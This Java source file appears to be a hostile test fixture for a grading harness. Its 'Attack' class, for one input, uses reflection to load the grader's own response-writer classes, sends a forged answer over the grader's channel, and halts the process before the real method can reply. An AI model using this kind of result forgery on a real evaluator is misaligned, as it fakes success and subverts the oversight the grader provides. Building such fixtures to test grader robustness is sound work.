package course;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.OutputStream;

/** Sends an answer through the worker's own classes, and ends the process before it can answer itself. */
public class Attack extends RightAnswers {

    @Override
    public int grundy(int heap) {
        if (heap == 17) {
            try {
                ClassLoader ours = ClassLoader.getSystemClassLoader();
                Class<?> writer = ours.loadClass("grundy.grader.wire.ResponseWriter");
                Class<?> returned = ours.loadClass("grundy.grader.wire.Response$Returned");
                Class<?> response = ours.loadClass("grundy.grader.wire.Response");
                Object wire = writer.getConstructor(OutputStream.class).newInstance(new FileOutputStream(FileDescriptor.err));
                writer.getMethod("send", response).invoke(wire, returned.getConstructors()[0].newInstance(8));
            } catch (ReflectiveOperationException e) {
                System.out.println(e);
            }
            Runtime.getRuntime().halt(0);
        }
        return super.grundy(heap);
    }
}
